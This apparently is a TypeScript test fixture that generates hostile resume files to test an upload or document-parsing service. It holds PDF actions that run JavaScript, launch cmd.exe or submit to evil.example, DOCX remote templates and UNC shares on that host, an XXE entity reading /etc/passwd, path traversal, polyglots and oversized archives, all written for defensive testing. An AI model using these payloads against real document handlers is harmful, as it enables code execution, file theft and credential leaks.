import {
  contentTypes,
  docmResume,
  docResume,
  docxResume,
  pdfResume,
} from '#tests/support/resumes/resumes.ts'
import { zip } from '#tests/support/resumes/zip.ts'
import { CANARY, type HostileFile, hostile, SCRIPT } from './hostile-file.ts'

const ACTIONS: Record<string, string> = {
  'a script when it is opened': `/OpenAction << /S /JavaScript /JS (app.alert\\('${CANARY}'\\)) >>`,
  'a program to start': '/OpenAction << /S /Launch /F (cmd.exe) >>',
  'an address to open': '/OpenAction << /S /URI /URI (javascript:alert\\(1\\)) >>',
  'a form to send': '/OpenAction << /S /SubmitForm /F (https://evil.example/) >>',
  'another file to open': '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share) >>',
  'files within': '/Names << /EmbeddedFiles << /Names [(evil.exe) << /Type /Filespec >>] >> >>',
  'a form of XFA': '/AcroForm << /XFA (<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>) >>',
  'a film with a script': '/RichMedia << /Assets << >> >>',
  'itself as its parent': '/Pages 1 0 R',
}

/** Papers with actions, macros and files within, and ones that are something else as well. */
export async function hostileDocuments(): Promise<HostileFile[]> {
  const [pdf, docx] = [await pdfResume(), docxResume()]
  const acting = Object.entries(ACTIONS).map(([about, entry]) =>
    hostile(`pdf: ${about}`, 'cv.pdf', paper(entry)),
  )
  const part = (name: string, content: string | Buffer) => docxResume([{ name, content }])
  const relation = (target: string) =>
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`
  const entity = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><Types>&a;</Types>'
  const others: [string, string, Buffer | string][] = [
    ['pdf: a page behind its end', 'cv.pdf', Buffer.concat([pdf, Buffer.from(SCRIPT)])],
    ['pdf: a page before it', 'cv.pdf', Buffer.concat([Buffer.from(`<html>${SCRIPT}`), pdf])],
    ['pdf: a ZIP behind its end', 'cv.pdf', Buffer.concat([pdf, docx])],
    ['pdf: without an end', 'cv.pdf', pdf.subarray(0, -30)],
    ['pdf: its first bytes alone', 'cv.pdf', '%PDF-1.7'],
    ['pdf: 100,000 arrays within each other', 'cv.pdf', paper(`/X ${'['.repeat(100_000)}`)],
    ['pdf: named as a Word document', 'cv.docx', pdf],
    ['pdf: named as a page', 'cv.pdf.html', pdf],
    ['pdf: named as a picture', 'cv.jpg', pdf],
    ['docx: with macros', 'cv.docm', docmResume()],
    ['docx: with macros, named as without', 'cv.docx', docmResume()],
    ['docx: macros that its list does not name', 'cv.docx', part('word/vbaProject.bin', CANARY)],
    ['docx: macros by another name', 'cv.docx', part('WORD\\VBAPROJECT.BIN', CANARY)],
    [
      'docx: a template of another site',
      'cv.docx',
      part('word/_rels/settings.xml.rels', relation('https://evil.example/x.dotm')),
    ],
    [
      'docx: a template of a share',
      'cv.docx',
      part('word/_rels/settings.xml.rels', relation('\\\\evil.example\\x')),
    ],
    ['docx: an entity of a file', 'cv.docx', docxResume([], entity)],
    ['docx: a program within', 'cv.docx', part('word/embeddings/oleObject1.bin', 'MZ')],
    ['docx: 60 MB of nothing', 'cv.docx', part('word/media/a.xml', Buffer.alloc(60_000_000))],
    [
      'docx: lies about how large it is',
      'cv.docx',
      docxResume([{ name: 'a', content: Buffer.alloc(1_000_000), unpacked: 1 }]),
    ],
    ['docx: encrypted', 'cv.docx', docxResume([{ name: 'a', content: 'x', flags: 1 }])],
    ['docx: parts outside of it', 'cv.docx', part('../../../../tmp/evil', CANARY)],
    ['docx: a list of the parts that is none', 'cv.docx', docxResume([], '<Types')],
    ['docx: two lists of the parts', 'cv.docx', part('[Content_Types].xml', contentTypes())],
    ['docx: cut off', 'cv.docx', docx.subarray(0, -15)],
    ['docx: an empty ZIP', 'cv.docx', zip([])],
    ['doc: cut off', 'cv.doc', docResume().subarray(0, 600)],
    ['doc: sectors that lead in a circle', 'cv.doc', circular(docResume())],
    ['rtf: with an object', 'cv.doc', `{\\rtf1{\\object\\objocx ${CANARY}}}`],
    ['a program named as a paper', 'cv.pdf', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)])],
    ['a page named as a paper', 'cv.pdf', SCRIPT],
    ['nothing', 'cv.pdf', ''],
  ]
  return [...acting, ...others.map(([about, name, bytes]) => hostile(about, name, bytes))]
}

function paper(entry: string): Buffer {
  return Buffer.from(
    `%PDF-1.7\n1 0 obj << /Type /Catalog ${entry} >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n`,
  )
}

/** A compound file whose table of sectors says that each one follows itself. */
function circular(file: Buffer): Buffer {
  const changed = Buffer.from(file)
  for (let at = 512; at + 4 <= Math.min(changed.length, 1024); at += 4)
    changed.writeUInt32LE((at - 512) / 4, at)
  return changed
}
